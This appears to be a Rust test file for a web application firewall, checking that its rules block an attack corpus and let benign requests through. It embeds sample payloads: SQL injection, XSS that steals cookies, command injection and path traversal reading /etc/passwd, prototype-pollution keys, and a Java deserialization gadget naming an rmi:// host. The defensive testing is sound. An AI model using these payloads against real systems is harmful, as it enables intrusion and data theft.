//! The rule set against the repository's corpus, in every position a value
//! can take. (`crates/cloudsec/tests/waf.rs` sends the same corpus through a
//! running gateway.)

use super::*;
use crate::config::WafConfig;
use serde_json::Value;

const SECOND: std::time::Duration = std::time::Duration::from_secs(1);
const ATTACKS: &str = include_str!("../../tests/waf-corpus/attacks.jsonl");
const BENIGN: &str = include_str!("../../tests/waf-corpus/benign.jsonl");

fn waf() -> Waf {
    Waf::new(&WafConfig::default(), 1 << 20, SECOND).unwrap()
}

/// The default rules with the SQL injection group in `mode`.
fn waf_with_sqli(mode: WafMode) -> Waf {
    let mut config = WafConfig::default();
    config.modes.sqli = mode;
    Waf::new(&config, 1 << 20, SECOND).unwrap()
}

/// One corpus entry: an attack's group, or `benign` with the kind of text
/// (`text` goes in every position, `markdown` is an article body); and its
/// half (`train`: what the rules were tuned on; `test`: held out).
struct Entry {
    group: String,
    kind: String,
    payload: String,
    split: String,
}

fn corpus(text: &str) -> Vec<Entry> {
    text.lines()
        .map(|line| {
            let v: Value = serde_json::from_str(line).unwrap();
            let field = |name: &str, default: &str| v[name].as_str().unwrap_or(default).to_owned();
            Entry {
                group: field("group", "benign"),
                kind: field("kind", "text"),
                payload: field("payload", ""),
                split: field("split", ""),
            }
        })
        .collect()
}

fn encode(s: &str) -> String {
    percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC).to_string()
}

fn head(uri: &str, headers: &[(&str, &str)]) -> Parts {
    let mut b = http::Request::builder()
        .uri(uri)
        .header("host", "localhost");
    for (k, v) in headers {
        b = b.header(*k, *v);
    }
    b.body(()).unwrap().into_parts().0
}

/// Which of the positions flag `payload`.
fn positions(waf: &Waf, group: &str, payload: &str) -> Vec<(&'static str, bool)> {
    if group == "scanners" {
        let h = head("/api/tags", &[("user-agent", payload)]);
        return vec![("user-agent", waf.inspect_head(&h, None).is_some())];
    }
    let query = head(&format!("/api/articles?tag={}", encode(payload)), &[]);
    let path = head(&format!("/api/profiles/{}", encode(payload)), &[]);
    let header_value = if payload
        .bytes()
        .all(|b| b == b'\t' || (0x20..0x7f).contains(&b))
    {
        payload.to_owned()
    } else {
        encode(payload)
    };
    let header = head("/api/tags", &[("x-comment", &header_value)]);
    let body = serde_json::json!({"article": {"title": "t", "description": "d", "body": payload, "tagList": []}});
    vec![
        ("query", waf.inspect_head(&query, None).is_some()),
        ("path", waf.inspect_head(&path, None).is_some()),
        ("header", waf.inspect_head(&header, None).is_some()),
        (
            "body",
            waf.inspect_body(
                routes::Body::Inspected,
                Some("application/json"),
                body.to_string().as_bytes(),
            )
            .is_some(),
        ),
    ]
}

/// What the rules make of one half of the corpus: the share of attack
/// requests blocked (by group too) and the benign requests refused.
struct Verdict {
    rate: f64,
    by_group: std::collections::BTreeMap<String, (u32, u32)>,
    missed: Vec<String>,
    false_positives: Vec<String>,
}

fn judge(waf: &Waf, split: &str) -> Verdict {
    let mut by_group = std::collections::BTreeMap::<String, (u32, u32)>::new();
    let mut missed = Vec::new();
    for entry in corpus(ATTACKS).iter().filter(|e| e.split == split) {
        for (position, hit) in positions(waf, &entry.group, &entry.payload) {
            let counts = by_group.entry(entry.group.clone()).or_default();
            counts.0 += 1;
            if hit {
                counts.1 += 1;
            } else {
                missed.push(format!("{} {position}: {:?}", entry.group, entry.payload));
            }
        }
    }
    let mut false_positives = Vec::new();
    for entry in corpus(BENIGN).iter().filter(|e| e.split == split) {
        let hits = if entry.kind == "markdown" {
            // An article body, on the routes that write articles.
            let body = serde_json::json!({"article": {"title": "t", "description": "d", "body": entry.payload, "tagList": []}});
            let hit = waf
                .inspect_body(
                    routes::Body::Markdown,
                    Some("application/json"),
                    body.to_string().as_bytes(),
                )
                .is_some();
            vec![("article body", hit)]
        } else {
            positions(waf, "benign", &entry.payload)
        };
        for (position, hit) in hits {
            if hit {
                false_positives.push(format!("{position}: {:?}", entry.payload));
            }
        }
    }
    let (sent, blocked) = by_group
        .values()
        .fold((0, 0), |(s, b), (gs, gb)| (s + gs, b + gb));
    Verdict {
        rate: f64::from(blocked) / f64::from(sent.max(1)),
        by_group,
        missed,
        false_positives,
    }
}

fn report(split: &str, verdict: &Verdict) {
    println!("{split}: attacks blocked {:.1}%", verdict.rate * 100.0);
    for (group, (sent, blocked)) in &verdict.by_group {
        println!("  {group}: {blocked}/{sent}");
    }
    // The held-out half's misses stay unread: whoever tunes the rules must
    // not see them (only the counts above).
    if split != "test" {
        println!("missed:\n  {}", verdict.missed.join("\n  "));
    }
}

/// The half the rules were tuned on.
#[test]
fn corpus_attacks_are_blocked_and_benign_inputs_pass() {
    let verdict = judge(&waf(), "train");
    report("train", &verdict);
    assert!(
        verdict.false_positives.is_empty(),
        "benign inputs blocked:\n  {}",
        verdict.false_positives.join("\n  ")
    );
    assert!(
        verdict.rate >= 0.95,
        "only {:.1}% blocked",
        verdict.rate * 100.0
    );
}

/// The held-out half: written apart from the rules, never tuned on. Its
/// figures are what docs/security.md reports.
#[test]
fn the_held_out_half_is_judged_as_well() {
    let verdict = judge(&waf(), "test");
    report("test", &verdict);
    // Counts only, here too: the refused inputs stay unread.
    let benign = corpus(BENIGN).iter().filter(|e| e.split == "test").count();
    println!(
        "test: {} benign requests refused ({benign} benign inputs)",
        verdict.false_positives.len()
    );
    assert!(
        verdict.false_positives.len() <= HELD_OUT_REFUSED_AT_MOST,
        "{} held-out benign requests refused",
        verdict.false_positives.len()
    );
    assert!(
        verdict.rate >= HELD_OUT_FLOOR,
        "only {:.1}% blocked",
        verdict.rate * 100.0
    );
}

/// What the held-out half must not get worse than: as first measured
/// (docs/security.md). The goal is no benign request refused at all.
const HELD_OUT_FLOOR: f64 = 0.90;
const HELD_OUT_REFUSED_AT_MOST: usize = 2;

#[test]
fn count_mode_lets_a_match_through_and_other_groups_still_block() {
    let waf = waf_with_sqli(WafMode::Count);
    let sqli = head(&format!("/api/articles?q={}", encode("' OR 1=1--")), &[]);
    assert_eq!(waf.inspect_head(&sqli, None), None);
    let xss = head(&format!("/api/articles?q={}", encode("<script>")), &[]);
    assert_eq!(
        waf.inspect_head(&xss, None).map(|f| f.rule),
        Some("xss-script-tag")
    );
}

#[test]
fn a_path_with_a_counted_match_is_counted_each_time_and_a_clean_one_is_remembered() {
    let waf = waf_with_sqli(WafMode::Count);
    let counted = head(&format!("/api/profiles/{}", encode("' OR 1=1--")), &[]);
    let clean = head("/api/profiles/jake", &[]);
    let mut counts = Vec::new();
    for _ in 0..3 {
        // Matched in a segment, not in the path as a whole: never taken for
        // a clean path, so the metric counts every request.
        let mut scan = Scan::new(&waf);
        scan.head(&counted, None);
        assert_eq!(scan.blocked, None);
        counts.push(scan.findings);
        assert_eq!(waf.inspect_head(&clean, None), None);
    }
    assert!(
        counts[0] > 0 && counts.iter().all(|c| *c == counts[0]),
        "{counts:?}"
    );
    assert!(waf.known_clean(Checked::Path, clean.uri.path()));
    assert!(!waf.known_clean(Checked::Path, counted.uri.path()));
}

#[test]
fn ip_lists_deny_and_exempt() {
    let config = WafConfig {
        deny_ips: vec!["203.0.113.0/24".parse().unwrap()],
        allow_ips: vec!["198.51.100.7/32".parse().unwrap()],
        ..WafConfig::default()
    };
    let waf = Waf::new(&config, 1 << 20, SECOND).unwrap();
    let plain = head("/api/tags", &[]);
    let denied = waf.inspect_head(&plain, Some("203.0.113.9".parse().unwrap()));
    assert_eq!(denied.map(|f| f.group), Some(Group::IpDeny));
    let attack = head("/api/articles?q=%3Cscript%3E", &[]);
    assert!(
        waf.inspect_head(&attack, Some("192.0.2.1".parse().unwrap()))
            .is_some()
    );
    assert!(
        waf.inspect_head(&attack, Some("198.51.100.7".parse().unwrap()))
            .is_none()
    );
}

#[test]
fn findings_name_where_not_what() {
    let waf = waf();
    let body = br#"{"comment": {"body": "<img src=x onerror=alert(1)>"}}"#;
    let finding = waf
        .inspect_body(routes::Body::Inspected, Some("application/json"), body)
        .unwrap();
    assert_eq!(finding.rule, "xss-event-handler");
    assert_eq!(
        (finding.location, finding.field.as_str()),
        ("body", "comment.body")
    );
    let login = br#"{"user": {"email": "a@b.c", "password": "x' OR 1=1 --"}}"#;
    assert_eq!(
        waf.inspect_body(routes::Body::Inspected, Some("application/json"), login),
        None
    );
}

#[test]
fn a_value_found_clean_is_remembered_only_for_the_rules_that_found_it() {
    let lenient = waf_with_sqli(WafMode::Off);
    let strict = waf();
    let sqli = head(&format!("/api/articles?q={}", encode("' OR 1=1--")), &[]);
    // Interleaved on one thread: each judges by its own rules every time.
    for _ in 0..3 {
        assert_eq!(lenient.inspect_head(&sqli, None), None);
        assert_eq!(
            strict.inspect_head(&sqli, None).map(|f| f.group),
            Some(Group::Sqli)
        );
    }
}

#[test]
fn a_value_clean_in_one_place_is_still_judged_by_the_rules_of_another() {
    let waf = waf();
    let scanner = "sqlmap/1.7.2#stable";
    // Clean as a header value and as a path segment: remembered as such...
    for _ in 0..2 {
        let h = head(
            &format!("/api/profiles/{}", encode(scanner)),
            &[("x-client", scanner)],
        );
        assert_eq!(waf.inspect_head(&h, None), None);
    }
    // ...which says nothing about it as a user agent, every time.
    for _ in 0..2 {
        let h = head("/api/tags", &[("user-agent", scanner)]);
        let finding = waf.inspect_head(&h, None).map(|f| f.group);
        assert_eq!(finding, Some(Group::Scanners));
    }
    // A path that passed the path rules is remembered; one that did not never is.
    let traversal = "/api/%2e%2e/%2e%2e/etc/passwd";
    for _ in 0..2 {
        assert_eq!(waf.inspect_head(&head("/api/tags", &[]), None), None);
        let finding = waf.inspect_head(&head(traversal, &[]), None);
        assert!(finding.is_some(), "{traversal} passed");
    }
}

#[test]
fn headers_left_to_the_services_are_only_checked_for_their_encoding() {
    let waf = waf();
    let sqli = "x' OR 1=1 --";
    // A credential the edge and the services check: not the WAF's to judge.
    let token = head("/api/tags", &[("authorization", &format!("Token {sqli}"))]);
    assert_eq!(waf.inspect_head(&token, None), None);
    // Cookies are inspected pair by pair, and found by name.
    let cookie = head("/api/tags", &[("cookie", &format!("theme=dark; q={sqli}"))]);
    let finding = waf.inspect_head(&cookie, None).unwrap();
    assert_eq!((finding.location, finding.field.as_str()), ("cookie", "q"));
    // Bytes that are not UTF-8 are an anomaly in any header.
    for name in ["accept", "x-comment", "sec-fetch-site", "cookie"] {
        let mut h = head("/api/tags", &[]);
        let value = http::HeaderValue::from_bytes(b"caf\xe9").unwrap();
        h.headers.insert(http::HeaderName::from_static(name), value);
        let finding = waf.inspect_head(&h, None).unwrap();
        assert_eq!(
            (finding.rule, finding.location, finding.field.as_str()),
            ("protocol-invalid-utf8", "header", name)
        );
    }
    // Valid UTF-8 beyond ASCII is fine there.
    let accept = head("/api/tags", &[("accept-language", "fr-CH, fr;q=0.9")]);
    assert_eq!(waf.inspect_head(&accept, None), None);
    let mut h = head("/api/tags", &[]);
    let value = http::HeaderValue::from_bytes("café".as_bytes()).unwrap();
    h.headers.insert(header::ACCEPT, value);
    assert_eq!(waf.inspect_head(&h, None), None);
}

/// An article's markdown may show attacks in fenced code (that is what
/// people write about); the same text outside a fence, in any other field,
/// or sent to a route that does not write articles, is still blocked.
#[test]
fn fenced_code_in_an_article_body_is_data() {
    let waf = waf();
    let article = |body: &str, title: &str| {
        serde_json::json!({"article": {"title": title, "description": "d", "body": body}})
            .to_string()
    };
    let inspect = |json: String| {
        waf.inspect_body(
            routes::Body::Markdown,
            Some("application/json"),
            json.as_bytes(),
        )
    };
    let code = "```html\n<script>alert(document.cookie)</script>\n```";
    for attack in [
        "<script>alert(document.cookie)</script>",
        "; cat /etc/passwd",
        "' UNION SELECT password FROM users--",
    ] {
        let fenced = format!("How it works:\n\n```\n{attack}\n```\n\nThat's all.");
        assert!(
            inspect(article(&fenced, "t")).is_none(),
            "{attack} in a fence"
        );
        assert!(
            inspect(article(&format!("How: {attack}"), "t")).is_some(),
            "{attack} in prose"
        );
    }
    let elsewhere = waf.inspect_body(
        routes::Body::Inspected,
        Some("application/json"),
        article(code, "t").as_bytes(),
    );
    assert!(elsewhere.is_some(), "an article body sent to another route");
    let comment = serde_json::json!({"comment": {"body": code}}).to_string();
    assert!(inspect(comment).is_some(), "a comment is not markdown");
    let listed = serde_json::json!({"article": {"body": [code]}}).to_string();
    assert!(
        inspect(listed).is_some(),
        "an array under body is not the body"
    );
    assert!(
        inspect(article(code, code)).is_some(),
        "the title is not markdown"
    );
    assert!(
        inspect(article(&format!("<div>\n{code}\n</div>"), "t")).is_some(),
        "inside raw HTML a fence is no fence"
    );
}

/// Keys are names too: merged into an object by a JavaScript service, these
/// reach its prototype whatever their values say.
#[test]
fn prototype_keys_in_a_json_body_are_refused() {
    let waf = waf();
    for body in [
        r#"{"__proto__": {"isAdmin": true}}"#,
        r#"{"user": {"__proto__": {"isAdmin": true}}}"#,
        r#"{"constructor": {"prototype": {"isAdmin": true}}}"#,
    ] {
        let finding = waf.inspect_body(
            routes::Body::Inspected,
            Some("application/json"),
            body.as_bytes(),
        );
        assert_eq!(
            finding.map(|f| f.rule),
            Some("nodejs-prototype-pollution"),
            "{body}"
        );
    }
    let fine = r#"{"article": {"title": "constructor", "body": "prototype"}}"#;
    assert_eq!(
        waf.inspect_body(
            routes::Body::Inspected,
            Some("application/json"),
            fine.as_bytes()
        ),
        None
    );
}

/// Paranoia level 2 finds attack text that never breaks out of anything;
/// level 1 lets it pass, as it lets prose about attacks pass. What level 2
/// costs in refused benign inputs is printed (docs/security.md).
#[test]
fn paranoia_level_two_looks_everywhere() {
    let config = WafConfig {
        paranoia_level: 2,
        ..WafConfig::default()
    };
    let strict = Waf::new(&config, 1 << 20, SECOND).unwrap();
    let normal = waf();
    let query = |w: &Waf, v: &str| {
        w.inspect_head(
            &head(&format!("/api/articles?tag={}", encode(v)), &[]),
            None,
        )
        .map(|f| f.rule)
    };
    for (value, rule) in [
        ("hello onclick=steal", "xss-handler-anywhere"),
        (
            "see select name from users where 1",
            "sqli-statement-anywhere",
        ),
        ("then cat ~/notes.txt", "cmdi-command-anywhere"),
        ("read etc/passwd", "traversal-file-anywhere"),
        ("see include(page)", "php-function-anywhere"),
    ] {
        assert_eq!(query(&normal, value), None, "{value}");
        assert_eq!(query(&strict, value), Some(rule), "{value}");
    }
    let strict_verdict = judge(&strict, "train");
    let benign = corpus(BENIGN).iter().filter(|e| e.split == "train").count();
    println!(
        "paranoia level 2, train half: {:.1}% of attacks blocked; {} refused benign requests ({} benign inputs)",
        strict_verdict.rate * 100.0,
        strict_verdict.false_positives.len(),
        benign
    );
    assert!(strict_verdict.rate >= judge(&normal, "train").rate);
}

/// A JSON body that names a class to build (Jackson and fastjson type
/// handling) is refused; an ordinary JSON-LD type is not.
#[test]
fn class_names_in_type_keys_are_refused() {
    let waf = waf();
    let gadget = r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.3:1099/Exp","autoCommit":true}"#;
    let finding = waf.inspect_body(
        routes::Body::Inspected,
        Some("application/json"),
        gadget.as_bytes(),
    );
    assert_eq!(finding.map(|f| f.rule), Some("java-gadget-type"));
    let json_ld = r#"{"@type":"Article","headline":"Hello"}"#;
    assert_eq!(
        waf.inspect_body(
            routes::Body::Inspected,
            Some("application/json"),
            json_ld.as_bytes()
        ),
        None
    );
}
